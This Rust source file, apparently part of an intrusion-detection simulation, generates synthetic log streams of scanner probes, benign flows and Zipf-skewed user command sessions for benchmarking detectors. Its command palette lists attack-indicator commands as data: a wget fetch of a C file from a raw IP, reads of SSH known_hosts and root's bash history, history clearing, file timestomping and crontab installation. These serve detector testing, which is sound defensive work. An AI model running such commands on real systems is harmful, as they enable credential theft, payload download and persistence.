@@ -1,0 +1,191 @@
+//! Raw record-stream workloads for the streaming pipeline.
+//!
+//! The other scenario modules emit *alerts* (post-symbolization) or
+//! simulation *actions*; the streaming executors and their benchmarks need
+//! the layer in between — a reproducible stream of [`LogRecord`]s mixing:
+//!
+//! - mass-scanner probe floods (collapsed by the repeated-scan filter),
+//! - benign established flows (mostly symbolize to nothing),
+//! - per-user host command sessions whose alerts survive the filter and
+//!   exercise the per-entity detectors — the load the sharded executor
+//!   partitions.
+//!
+//! User activity is Zipf-skewed so shard balance is tested under realistic
+//! entity popularity, not a uniform idealization.
+
+use simnet::flow::{ConnState, Direction, FlowId, Proto, Service};
+use simnet::rng::{SimRng, Zipf};
+use simnet::time::{SimDuration, SimTime};
+use simnet::topology::HostId;
+use telemetry::record::{ConnRecord, LogRecord, ProcessRecord};
+
+/// Shape of a mixed record stream.
+#[derive(Debug, Clone)]
+pub struct RecordStreamConfig {
+    pub start: SimTime,
+    /// Stream horizon; timestamps are spread uniformly across it.
+    pub horizon: SimDuration,
+    /// Scanner probe records (SSH S0 probes from a small source pool).
+    pub scan_records: usize,
+    /// Distinct scanner sources.
+    pub scanners: usize,
+    /// Benign established flows.
+    pub benign_flows: usize,
+    /// Host command (process) records across the user population.
+    pub exec_records: usize,
+    /// Distinct user accounts (detector entities).
+    pub users: usize,
+    /// Zipf exponent for user activity skew (0 = uniform).
+    pub zipf_exponent: f64,
+}
+
+impl Default for RecordStreamConfig {
+    fn default() -> Self {
+        RecordStreamConfig {
+            start: SimTime::from_date(2024, 10, 1),
+            horizon: SimDuration::from_hours(24),
+            scan_records: 40_000,
+            scanners: 32,
+            benign_flows: 20_000,
+            exec_records: 40_000,
+            users: 2_000,
+            zipf_exponent: 1.1,
+        }
+    }
+}
+
+/// Command palette for user sessions: a mix of benign commands (symbolize
+/// to nothing) and indicative ones (Significant-severity alerts that pass
+/// the scan filter and drive the per-entity detectors).
+const EXEC_CMDS: &[&str] = &[
+    // Benign (no alert).
+    "ls -la /scratch/project",
+    "python3 train.py --epochs 10",
+    "sbatch batch_job.sh",
+    "tail -n 100 output.log",
+    // Indicative (one alert each).
+    "wget http://64.215.4.5/abs.c",
+    "make -C /lib/modules/4.4/build modules",
+    "grep -r IdentityFile /etc/ssh",
+    "cat /home/shared/.ssh/known_hosts",
+    "cat /root/.bash_history",
+    "history -c && exit",
+    "touch -t 202410010101 /tmp/.hidden",
+    "crontab /tmp/cron.txt",
+];
+
+/// Generate a time-ordered mixed record stream.
+pub fn record_stream(cfg: &RecordStreamConfig, rng: &mut SimRng) -> Vec<LogRecord> {
+    let total = cfg.scan_records + cfg.benign_flows + cfg.exec_records;
+    let mut records: Vec<LogRecord> = Vec::with_capacity(total);
+    let horizon_ns = cfg.horizon.as_nanos().max(1);
+    let ts = |rng: &mut SimRng| cfg.start + SimDuration::from_nanos(rng.range_u64(0, horizon_ns));
+
+    let scanners = cfg.scanners.max(1);
+    for i in 0..cfg.scan_records {
+        let t = ts(rng);
+        let scanner = 1 + (i % scanners) as u64;
+        records.push(LogRecord::Conn(ConnRecord {
+            ts: t,
+            uid: FlowId(i as u64),
+            orig_h: format!("103.{}.{}.9", 100 + scanner / 200, 1 + scanner % 200)
+                .parse()
+                .unwrap(),
+            orig_p: 40_000,
+            resp_h: simnet::addr::ncsa_production().nth(rng.range_u64(0, 65_536)),
+            resp_p: 22,
+            proto: Proto::Tcp,
+            service: Service::Ssh,
+            duration: SimDuration::ZERO,
+            orig_bytes: 0,
+            resp_bytes: 0,
+            conn_state: ConnState::S0,
+            direction: Direction::Inbound,
+        }));
+    }
+
+    for i in 0..cfg.benign_flows {
+        let t = ts(rng);
+        records.push(LogRecord::Conn(ConnRecord {
+            ts: t,
+            uid: FlowId((cfg.scan_records + i) as u64),
+            orig_h: simnet::addr::ncsa_production().nth(rng.range_u64(256, 20_000)),
+            orig_p: (40_000 + (i % 20_000)) as u16,
+            resp_h: simnet::addr::ncsa_production().nth(rng.range_u64(256, 20_000)),
+            resp_p: [22, 443, 2049][rng.index(3)],
+            proto: Proto::Tcp,
+            service: Service::Ssh,
+            duration: SimDuration::from_secs(rng.range_u64(1, 120)),
+            orig_bytes: rng.range_u64(500, 100_000),
+            resp_bytes: rng.range_u64(500, 100_000),
+            conn_state: ConnState::SF,
+            direction: Direction::Internal,
+        }));
+    }
+
+    let users = cfg.users.max(1);
+    let zipf = Zipf::new(users, cfg.zipf_exponent);
+    for i in 0..cfg.exec_records {
+        let t = ts(rng);
+        let user_rank = zipf.sample(rng);
+        let cmd = EXEC_CMDS[rng.index(EXEC_CMDS.len())];
+        records.push(LogRecord::Process(ProcessRecord {
+            ts: t,
+            host: HostId((user_rank % 64) as u32),
+            hostname: format!("compute-{}", user_rank % 64),
+            user: format!("user{user_rank:05}"),
+            pid: 1_000 + (i % 60_000) as u32,
+            ppid: 1,
+            exe: "/bin/bash".into(),
+            cmdline: cmd.into(),
+        }));
+    }
+
+    records.sort_by_key(|r| r.ts());
+    records
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn stream_is_reproducible_and_ordered() {
+        let cfg = RecordStreamConfig {
+            scan_records: 500,
+            benign_flows: 300,
+            exec_records: 400,
+            users: 50,
+            ..RecordStreamConfig::default()
+        };
+        let a = record_stream(&cfg, &mut SimRng::seed(7));
+        let b = record_stream(&cfg, &mut SimRng::seed(7));
+        assert_eq!(a.len(), 1_200);
+        assert_eq!(a, b, "seeded generation is deterministic");
+        assert!(a.windows(2).all(|w| w[0].ts() <= w[1].ts()));
+    }
+
+    #[test]
+    fn exec_records_cover_many_users() {
+        let cfg = RecordStreamConfig {
+            scan_records: 0,
+            benign_flows: 0,
+            exec_records: 2_000,
+            users: 100,
+            ..RecordStreamConfig::default()
+        };
+        let records = record_stream(&cfg, &mut SimRng::seed(1));
+        let users: std::collections::HashSet<String> = records
+            .iter()
+            .filter_map(|r| match r {
+                LogRecord::Process(p) => Some(p.user.clone()),
+                _ => None,
+            })
+            .collect();
+        assert!(
+            users.len() > 30,
+            "zipf still spreads entities: {}",
+            users.len()
+        );
+    }
+}
